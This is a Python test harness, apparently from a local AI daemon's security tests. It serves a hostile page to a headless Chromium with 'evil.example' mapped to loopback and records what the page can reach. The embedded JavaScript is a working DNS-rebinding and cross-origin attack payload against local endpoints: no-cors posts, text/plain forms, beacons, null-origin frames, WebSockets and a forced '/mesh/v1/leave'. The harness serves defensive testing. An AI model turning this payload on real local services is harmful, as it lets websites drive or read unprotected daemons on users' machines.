"""A hostile web site, a server without any protection beside it, and a real browser that visits.

The site stands on 127.0.0.2, on the daemon's own port. The browser is told that `evil.example` is there, so it
loads the page from that name; every other request for that name is passed on to the daemon, byte for byte but for
the connection: what a browser sees and a daemon gets when a DNS name is rebound to loopback.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Mapping
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, cast

BROWSERS = ("chromium-headless-shell", "chromium", "chrome-headless-shell", "google-chrome")
EVIL = "evil.example"
SITE_ADDRESS = "127.0.0.2"
REPORTS_S = 30.0  # until the pages have told what they could do; a second is usual

PAGE = """<!doctype html><title>win a prize</title><body><script>
const targets = TARGETS, frames = FRAMES, collect = COLLECT, found = {};
const question = JSON.stringify({model: "knowledge.gpt/general", target: "knowledge.gpt/general",
  prompt: "Hi", messages: [{role: "user", content: "Hi"}]});
const within = (promise) => Promise.race([promise,
  new Promise((_, no) => setTimeout(() => no(new Error("silence")), 4000))]);
const note = async (name, work) => {
  try { found[name] = await within(work()); } catch (error) { found[name] = "failed: " + error.name; }
};
const text = async (answer) => answer.type === "opaque" ? "opaque" : "read: " + answer.status + " " + await answer.text();
const tag = (name, fields) => new Promise((done) => {
  const element = Object.assign(document.createElement(name), fields);
  element.onload = () => done("loaded"); element.onerror = () => done("failed");
  document.body.append(element);
});
const form = (enctype, action) => new Promise((done) => {
  const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
  const sent = Object.assign(document.createElement("form"),
    {method: "POST", enctype, action, target: frame.name});
  const input = Object.assign(document.createElement("input"), {name: question + "//", value: "x"});
  sent.append(input); document.body.append(frame, sent);
  frame.onload = () => done("sent"); sent.submit();
});
const attack = async (label, base) => {
  const on = (name, work) => note(label + " " + name, work);
  const post = (mode, type) => fetch(base + "/v1/chat/completions",
    {method: "POST", mode, headers: type ? {"Content-Type": type} : {}, body: type ? question : new Blob([question])});
  await Promise.all([
    on("get", async () => text(await fetch(base + "/mesh/v1/status"))),
    on("get without cors", async () => text(await fetch(base + "/v1/models", {mode: "no-cors"}))),
    on("get by xhr", () => new Promise((done, no) => { const x = new XMLHttpRequest();
      x.onload = () => done("read: " + x.status + " " + x.responseText); x.onerror = () => no(new Error("xhr"));
      x.open("GET", base + "/metrics"); x.send(); })),
    on("post json", async () => text(await post("cors", "application/json"))),
    on("post text", async () => text(await post("no-cors", "text/plain"))),
    on("post nothing said", async () => text(await post("no-cors", ""))),
    on("leave", async () => text(await fetch(base + "/mesh/v1/leave", {method: "POST", mode: "no-cors"}))),
    on("with a key", async () => text(await fetch(base + "/v1/models", {headers: {Authorization: "Bearer x"}}))),
    on("beacon", async () => navigator.sendBeacon(base + "/mesh/v1/ask", question) ? "sent" : "failed"),
    on("form", () => form("text/plain", base + "/v1/chat/completions")),
    on("other form", () => form("application/x-www-form-urlencoded", base + "/mesh/v1/leave")),
    on("image", () => tag("img", {src: base + "/mesh/v1/status"})),
    on("script", () => tag("script", {src: base + "/v1/models"})),
    on("frame", async () => { const frame = document.createElement("iframe"); frame.src = base + "/mesh/v1/status";
      document.body.append(frame); await new Promise((done) => { frame.onload = done; });
      return "read: " + frame.contentDocument.body.textContent; }),
    on("null origin", () => new Promise((done) => { const frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts"; frame.srcdoc = `<script>fetch("${base}/v1/chat/completions", {method: "POST",
        mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "{}"})
        .then(() => parent.postMessage("N", "*"), () => parent.postMessage("N", "*"))<\\/script>`;
      addEventListener("message", () => done("sent"), {once: true}); document.body.append(frame); })),
    on("events", () => new Promise((done, no) => { const events = new EventSource(base + "/mesh/v1/status");
      events.onmessage = (e) => done("read: " + e.data);
      events.onerror = () => { events.close(); no(new Error("events")); }; })),
    on("websocket", () => new Promise((done, no) => {
      const ws = new WebSocket(base.replace("http", "ws") + "/mesh/v1/status");
      ws.onopen = () => done("read: open"); ws.onerror = () => no(new Error("ws")); })),
  ]);
};
(async () => {
  for (const source of frames) {
    const frame = document.createElement("iframe"); frame.src = source; document.body.append(frame);
  }
  const here = location.hostname === "evil.example" ? {"the rebound name": location.origin} : {};
  await Promise.all(Object.entries({...targets, ...here}).map(([label, base]) => attack(label, base)));
  await fetch(collect, {method: "POST", mode: "no-cors", body: JSON.stringify([location.origin, found])});
})();
</script>"""


def find_browser() -> str | None:
    """A browser that runs without a screen."""
    return next((path for name in BROWSERS if (path := shutil.which(name))), None)


@dataclass(slots=True)
class Reports:
    """What the pages could do, by their origin."""

    wanted: int
    by_origin: dict[str, dict[str, str]] = field(default_factory=dict[str, dict[str, str]])
    complete: threading.Event = field(default_factory=threading.Event)

    def take(self, raw: bytes) -> None:
        """Take one page's report in."""
        origin, found = json.loads(raw)
        self.by_origin[origin] = found
        if len(self.by_origin) == self.wanted:
            self.complete.set()


class _Server(ThreadingHTTPServer):
    """Takes no notice of connections that a browser which is ended leaves behind."""

    daemon_threads = True
    allow_reuse_address = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Say nothing."""


class _Quiet(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - as in the base class
        """Say nothing."""

    def handle_one(self) -> None:
        """Answer one request, of whichever method."""
        raise NotImplementedError

    def _handle(self) -> None:
        self.handle_one()

    do_GET = do_POST = do_OPTIONS = do_HEAD = _handle  # noqa: N815 - the names that are called

    def body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("content-length") or 0))

    def answer(self, status: int, body: bytes, headers: Mapping[str, str]) -> None:
        self.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


class Naive(_Quiet):
    """A server that trusts everybody, as many that listen on loopback do: shows what the page can do."""

    posts: list[tuple[str, str]]  # path and origin

    def handle_one(self) -> None:
        self.body()
        if self.command == "POST":
            self.posts.append((self.path, self.headers.get("origin", "")))
        everybody = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"}
        self.answer(200, b'{"a secret": 1}', {"Content-Type": "application/json", **everybody})


class Site(_Quiet):
    """The hostile site; what else is asked of `evil.example` goes to the daemon."""

    page: bytes
    reports: Reports
    daemon_port: int

    def handle_one(self) -> None:
        rebound = self.headers.get("host", "").startswith(EVIL)
        if self.path == "/page":
            self.answer(200, self.page, {"Content-Type": "text/html"})
        elif self.path == "/report":
            self.reports.take(self.body())
            self.answer(204, b"", {})
        elif rebound:
            self._pass_on()
        else:
            self.answer(404, b"", {})

    def _pass_on(self) -> None:
        connection = http.client.HTTPConnection("127.0.0.1", self.daemon_port, timeout=10)
        body = self.body()
        try:
            connection.putrequest(
                self.command, self.path, skip_host=True, skip_accept_encoding=True
            )
            for name, value in self.headers.items():
                connection.putheader(name, value)
            connection.endheaders(body or None)
            answer = connection.getresponse()
            headers = {"Content-Type": answer.headers.get("content-type", "")}
            self.answer(answer.status, answer.read(), headers)
        finally:
            connection.close()


def visit(browser: str, daemon_port: int, profile: Path) -> tuple[Reports, list[tuple[str, str]]]:
    """Let the browser visit the hostile site; what its pages could do, and what reached the naive server."""
    posts: list[tuple[str, str]] = []
    naive = _Server(("127.0.0.1", 0), type("N", (Naive,), {"posts": posts}))
    site = _Server((SITE_ADDRESS, daemon_port), Site)
    near = _Server(("127.0.0.1", 0), Site)
    near_port = near.server_address[1]
    frames = [f"http://{SITE_ADDRESS}:{daemon_port}/page", f"http://localhost:{near_port}/page"]
    reports = Reports(wanted=1 + len(frames))
    targets = {
        "the daemon": f"http://127.0.0.1:{daemon_port}",
        "the daemon by name": f"http://localhost:{daemon_port}",
        "the naive server": f"http://127.0.0.1:{naive.server_address[1]}",
    }
    collect = f"http://127.0.0.1:{near_port}/report"

    def page(framed: list[str]) -> bytes:
        filled = PAGE.replace("TARGETS", json.dumps(targets)).replace("FRAMES", json.dumps(framed))
        return filled.replace("COLLECT", json.dumps(collect)).encode()

    class Outer(Site):
        """By the name it shows frames of the other two origins; by the address it is one of them."""

        def handle_one(self) -> None:
            self.page = page(frames if self.headers.get("host", "").startswith(EVIL) else [])
            super().handle_one()

    for server, handler in ((site, Outer), (near, Site)):
        common = {"page": page([]), "reports": reports, "daemon_port": daemon_port}
        server.RequestHandlerClass = cast("Any", type("H", (handler,), common))
    servers = (naive, site, near)
    threads = [threading.Thread(target=partial(each.serve_forever, 0.05)) for each in servers]
    for thread in threads:
        thread.start()
    process = _launch(browser, f"http://{EVIL}:{daemon_port}/page", profile)
    try:
        reports.complete.wait(REPORTS_S)
    finally:
        os.killpg(process.pid, signal.SIGKILL)  # its own group: the browser and its children
        process.wait()
        for server in servers:
            server.shutdown()
            server.server_close()
        for thread in threads:
            thread.join()
    return reports, posts


def _launch(browser: str, url: str, profile: Path) -> subprocess.Popen[bytes]:
    arguments = [
        "--headless",
        "--no-sandbox",  # tests may run as root, where it does not start with one
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-background-networking",
        "--no-first-run",
        "--no-proxy-server",
        f"--host-resolver-rules=MAP {EVIL} {SITE_ADDRESS}, MAP localhost 127.0.0.1, MAP * ~NOTFOUND, "
        f"EXCLUDE 127.0.0.1, EXCLUDE {SITE_ADDRESS}",
        f"--user-data-dir={profile}",
        "--remote-debugging-port=0",  # without it a headless browser would end when the page is loaded
        url,
    ]
    return subprocess.Popen(
        [browser, *arguments],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
